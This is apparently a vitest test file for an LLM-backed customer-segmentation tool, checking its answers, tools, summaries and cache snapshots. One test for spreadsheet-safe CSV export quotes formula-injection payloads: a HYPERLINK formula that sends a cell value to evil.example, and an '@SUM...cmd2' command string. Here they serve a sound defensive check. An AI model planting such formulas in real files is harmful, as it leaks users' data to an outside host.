import { conversationContext } from '../../test/helpers/conversation-context.js';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Analysis } from '../analysis/analysis.js';
import { analyzeFile } from '../analysis/pipeline.js';
import { compareAnalyses } from '../analysis/migration.js';
import { NO_PREVIOUS_UPLOAD } from './changes.js';
import { ask, createSession } from '../llm/ask.js';
import { checkText } from '../llm/compose.js';
import { summarizeUpload } from '../llm/upload-summary.js';
import { restoreAnalysis, snapshotAnalysis } from '../store/analysis-snapshot.js';
import { runTool, ToolArgumentsError, TOOL_NAMES, type ToolRun } from './registry.js';
import { ToolInputError, type ToolSession } from './tool.js';
import { MALL_CSV, MISSION_CSV } from '../../test/helpers/shared.js';

let mission: Analysis;
let mall: Analysis;
const SETTINGS = { k: null, algorithm: 'kmeans' as const };
/** Each dataset is also its own previous upload, so segment_changes has a comparison to read. */
const session = (analysis: Analysis): ToolSession => createSession(conversationContext(analysis, SETTINGS, { comparison: compareAnalyses(analysis, analysis) }), {});
const segmentOfSize = (analysis: Analysis, size: number): number => analysis.report.segments.find((s) => s.size === size)?.id ?? -1;

beforeAll(async () => {
  [mission, mall] = await Promise.all([analyzeFile(MISSION_CSV), analyzeFile(MALL_CSV)]);
});

describe('the mission questions (all 660 customers)', () => {
  it('"which segment calls support most?" names the 224-customer segment, its 6.87 calls and the 3.58 overall', async () => {
    const answer = await ask('which segment calls support most?', conversationContext(mission, SETTINGS));
    const phoneHeavy = segmentOfSize(mission, 224);
    expect(answer.toolsUsed).toEqual(['rank_segments']);
    expect(answer.text).toContain(`Segment ${phoneHeavy}`);
    expect(answer.text).toContain('224 customers');
    expect(answer.text).toContain('6.87');
    expect(answer.text).toContain('3.58');
    expect(answer.facts.find((f) => f.label === `Segment ${phoneHeavy} average support calls`)?.value).toBeCloseTo(6.8705, 3);
    expect(answer.numbersChecked).toBe(true);
    expect(answer.footnote).toMatch(/checked/);
  });

  it('"who should we upsell?" points at the 50 high-limit online customers', async () => {
    const answer = await ask('who should we upsell?', conversationContext(mission, SETTINGS));
    const target = segmentOfSize(mission, 50);
    expect(answer.text).toMatch(new RegExp(`Who to upsell:\\* Segment ${target} \\(High credit limit · many online visits\\)`));
    expect(answer.text).toContain('50 customers');
    expect(answer.text).toContain('$141,040');
    expect(answer.numbersChecked).toBe(true);
  });

  it('has a campaign for every segment, each fitting its profile', async () => {
    const run = await runTool('campaign_suggestions', {}, session(mission));
    const data = run.result.data as { campaigns: { segmentId: number; kind: string }[] };
    expect(data.campaigns.map((c) => c.segmentId)).toEqual(mission.report.segments.map((s) => s.id));
    const kindOf = (size: number): string | undefined => data.campaigns.find((c) => c.segmentId === segmentOfSize(mission, size))?.kind;
    expect(kindOf(50)).toBe('premium-digital-upsell');
    expect(kindOf(224)).toBe('service-fix-and-self-serve');
    expect(kindOf(386)).toBe('in-branch-offers');
  });

  it('service actions start with the phone-heavy segment and measure its calls', async () => {
    const run = await runTool('service_actions', {}, session(mission));
    const data = run.result.data as { hasContactData: boolean; items: { segmentId: number | null; actions: string[] }[] };
    expect(data.hasContactData).toBe(true);
    expect(data.items[0].segmentId).toBe(segmentOfSize(mission, 224));
    expect(run.result.text).toContain('support calls 6.9 on average vs 3.6 overall');
  });
});

/** Typical arguments for every tool, by name (segment 1 exists in every analysis). */
const TYPICAL: Record<string, Record<string, unknown>[]> = {
  describe_data: [{}],
  segment: [{}, { k: 4 }],
  choose_k: [{}],
  profile_segment: [{ segment: 1 }, { segment: 'the biggest one' }],
  compare_segments: [{ a: 1, b: 2 }],
  rank_segments: [{ feature: 'age' }, { feature: 'income', statistic: 'median', order: 'lowest' }, { feature: 'age', statistic: 'shareAbove', threshold: 40 }],
  compare_methods: [{}],
  find_customers: [{ segment: 1, preview: 3 }],
  predict_segment: [{ values: [{ feature: 'age', value: 30 }, { feature: 'income', value: 80 }] }],
  chart: [{ kind: 'elbow' }, { kind: 'profile' }],
  campaign_suggestions: [{}, { goal: 'upsell' }, { segment: 2 }],
  service_actions: [{}],
  segment_changes: [{ topic: 'grew' }],
};
const MISSION_TYPICAL: Record<string, Record<string, unknown>[]> = {
  ...TYPICAL,
  rank_segments: [{ feature: 'calls' }, { feature: 'limit', statistic: 'median', order: 'lowest' }, { feature: 'calls', statistic: 'shareAbove', threshold: 5 }],
  predict_segment: [{ values: [{ feature: 'cards', value: 8 }, { feature: 'limit', value: 150000 }] }, { values: [{ feature: 'calls', value: 9 }] }],
  find_customers: [{ segment: 'the digital segment', preview: 3 }, { filters: [{ feature: 'cards', op: '>=', value: 9 }] }],
  segment_changes: [{ topic: 'moved' }, { topic: 'moved', segment: 1 }, { topic: 'lost' }, { topic: 'grew' }],
};

describe('every tool, on the mission and mall data', () => {
  it('covers every registered tool', () => {
    expect(Object.keys(TYPICAL).sort()).toEqual([...TOOL_NAMES].sort());
  });

  for (const [dataset, table] of [
    ['mission', MISSION_TYPICAL],
    ['mall', TYPICAL],
  ] as const) {
    for (const [tool, argsList] of Object.entries(table)) {
      for (const args of argsList) {
        it(`${dataset}: ${tool} ${JSON.stringify(args)} validates and its text passes the number check with its own facts`, async () => {
          const analysis = dataset === 'mission' ? mission : mall;
          const s = session(analysis);
          const run: ToolRun = await runTool(tool, args, s);
          expect(run.result.text.length).toBeGreaterThan(20);
          const check = checkText(run.result.text, s.analysis, run.result.facts, [run]);
          expect(check.unsupported.map((n) => `${n.text} in “${n.context}”`)).toEqual([]);
        });
      }
    }
  }
});

describe('tool behaviour', () => {
  it('segment_changes without a previous upload says there is nothing to compare yet', async () => {
    const alone = createSession(conversationContext(mission, SETTINGS), {});
    await expect(runTool('segment_changes', { topic: 'moved' }, alone)).rejects.toThrow(NO_PREVIOUS_UPLOAD);
  });

  it('segment_changes on a file without a customer key asks for the key instead of guessing', async () => {
    await expect(runTool('segment_changes', { topic: 'lost' }, session(mall))).rejects.toThrow(/no customer key in common.*\/segments key/);
  });

  it('segment re-runs with the new settings, returns them, and later tools see the new analysis', async () => {
    const s = session(mission);
    const run = await runTool('segment', { k: 4, algorithm: 'kmedoids' }, s);
    expect(run.result.settings).toEqual({ k: 4, algorithm: 'kmedoids' });
    expect(s.analysis.report.segments).toHaveLength(4);
    expect(s.analysis.report.algorithm).toBe('kmedoids');
    const profile = await runTool('profile_segment', { segment: 4 }, s);
    expect((profile.result.data as { id: number }).id).toBe(4);
    const back = await runTool('segment', { k: 'auto', algorithm: 'kmeans' }, s);
    expect(back.result.settings).toEqual({ k: null, algorithm: 'kmeans' });
    expect(s.analysis.report.segments).toHaveLength(3);
  });

  it('predict_segment places 8 cards and a 150k limit in the high-limit segment, almost surely', async () => {
    const run = await runTool('predict_segment', { values: [{ feature: 'cards', value: 8 }, { feature: 'credit line', value: 150000 }] }, session(mission));
    const data = run.result.data as { segment: number; probability: number | null; missingFeatures: string[] };
    expect(data.segment).toBe(segmentOfSize(mission, 50));
    expect(data.probability).toBeGreaterThan(0.9);
    expect(data.missingFeatures).toHaveLength(3);
    const phone = await runTool('predict_segment', { values: [{ feature: 'calls', value: 9 }, { feature: 'cards', value: 2 }] }, session(mission));
    expect((phone.result.data as { segment: number }).segment).toBe(segmentOfSize(mission, 224));
  });

  it('predict_segment uses Gower\'s distance to the medoids when K-Medoids segmented on Gender too', async () => {
    const analysis = await analyzeFile(MALL_CSV, { algorithm: 'kmedoids', categorical: ['Gender'], k: 4 });
    const numeric = ['Age', 'Annual Income (k$)', 'Spending Score (1-100)'];
    const { matrix } = analysis.table;
    const column = (j: number) => Array.from({ length: matrix.rows }, (_, i) => matrix.data[i * matrix.cols + j]);
    const ranges = numeric.map((_, j) => Math.max(...column(j)) - Math.min(...column(j)));
    const medoids = analysis.report.models.kmedoids?.medoidRowIndices ?? [];
    // The first two sit nearer another medoid by z-scored Euclidean distance than by Gower's.
    for (const customer of [{ Age: 20, income: 20, score: 75 }, { Age: 20, income: 20, score: 5 }, { Age: 35, income: 70, score: 50 }]) {
      const given = [customer.Age, customer.income, customer.score];
      const gower = medoids.map((row) => given.reduce((sum, v, j) => sum + Math.abs(v - matrix.data[row * matrix.cols + j]) / ranges[j], 0) / 3);
      const run = await runTool('predict_segment', { values: numeric.map((feature, j) => ({ feature, value: given[j] })) }, session(analysis));
      expect((run.result.data as { nearestCentre: number }).nearestCentre).toBe(gower.indexOf(Math.min(...gower)) + 1);
    }
  });

  it('compare_methods reports the same agreement as the analysis', async () => {
    const run = await runTool('compare_methods', {}, session(mission));
    const data = run.result.data as { agreement: { a: string; b: string; ari: number }[]; methods: { sizes: number[] }[] };
    expect(data.agreement.find((a) => a.a === 'kmeans' && a.b === 'gmm')?.ari).toBeCloseTo(mission.report.agreement.kmeansVsGmm ?? NaN, 10);
    for (const m of data.methods) expect(m.sizes.reduce((x, y) => x + y, 0)).toBe(660);
  });

  it('find_customers exports spreadsheet-safe CSV cells', async () => {
    const hostile = await analyzeFile(fileURLToPath(new URL('../../test/fixtures/malformed/formula-cells.csv', import.meta.url)), { kRange: [2, 4] });
    const run = await runTool('find_customers', {}, session(hostile));
    const csv = run.result.files[0].content;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).toContain("'@SUM(1+1)*cmd2");
    expect(csv.split('\r\n').filter((line) => /^[=+@]/.test(line))).toEqual([]);
    expect(JSON.stringify(run.result.data)).not.toContain('HYPERLINK');
  });

  it('asks back on an ambiguous feature and reports bad arguments with the validation error', async () => {
    await expect(runTool('rank_segments', { feature: 'visits' }, session(mission))).rejects.toThrow(ToolInputError);
    await expect(runTool('rank_segments', { feature: 'visits' }, session(mission))).rejects.toThrow(/Branch visits|Online visits/);
    await expect(runTool('rank_segments', { feature: 42 }, session(mission))).rejects.toThrow(ToolArgumentsError);
    await expect(runTool('profile_segment', { segment: 9 }, session(mission))).rejects.toThrow(/no segment 9/);
    await expect(runTool('launch_missiles', {}, session(mission))).rejects.toThrow(/no tool named/);
  });

  it('draws charts through the charts layer', async () => {
    const run = await runTool('chart', { kind: 'pca-map' }, session(mission));
    expect(run.result.charts).toHaveLength(1);
    expect(run.result.charts[0].kind).toBe('pca-map');
    expect(run.result.charts[0].spec).toHaveProperty('$schema');
  });
});

describe('summarizeUpload', () => {
  it('gives data quality, the recommended k with its reason, the segment table, key charts and checked insights', async () => {
    const answer = await summarizeUpload(mission, { llm: null });
    expect(answer.text).toContain('660 of 660 rows used');
    expect(answer.text).toMatch(/\*Recommended: 3 segments\.\* 3 segments: the silhouette is highest/);
    expect(answer.table?.rows).toHaveLength(3);
    expect(answer.table?.rows.map((r) => r[2])).toEqual(['386', '224', '50']);
    expect(answer.charts.map((c) => c.kind)).toEqual(['profile', 'sizes', 'elbow']);
    expect(answer.text).toContain('*Key findings*');
    expect(answer.numbersChecked).toBe(true);
  });

  it('leaves the insights out when asked to', async () => {
    const answer = await summarizeUpload(mall, { llm: null, charts: null, withInsights: false });
    expect(answer.text).not.toContain('Key findings');
    expect(answer.charts).toEqual([]);
    expect(answer.numbersChecked).toBe(true);
  });
});

describe('analysis snapshots (the CLI cache)', () => {
  it('round-trips an analysis exactly, mixture included', () => {
    const restored = restoreAnalysis(JSON.parse(JSON.stringify(snapshotAnalysis(mission))));
    expect(restored).not.toBeNull();
    if (!restored) return;
    expect(restored.report).toEqual(mission.report);
    expect(restored.labels).toEqual(mission.labels);
    expect(Array.from(restored.scaled.data)).toEqual(Array.from(mission.scaled.data));
    expect(restored.fitted.gmm?.model.weights).toEqual(mission.fitted.gmm?.model.weights);
  });

  it('rejects a snapshot whose mixture labels do not match', () => {
    const snapshot = snapshotAnalysis(mission);
    const gmm = snapshot.labels.gmm ?? [];
    const tampered = { ...snapshot, labels: { ...snapshot.labels, gmm: gmm.map((l) => (l + 1) % 3) } };
    expect(restoreAnalysis(JSON.parse(JSON.stringify(tampered)))).toBeNull();
    expect(restoreAnalysis({ version: 99 })).toBeNull();
  });
});
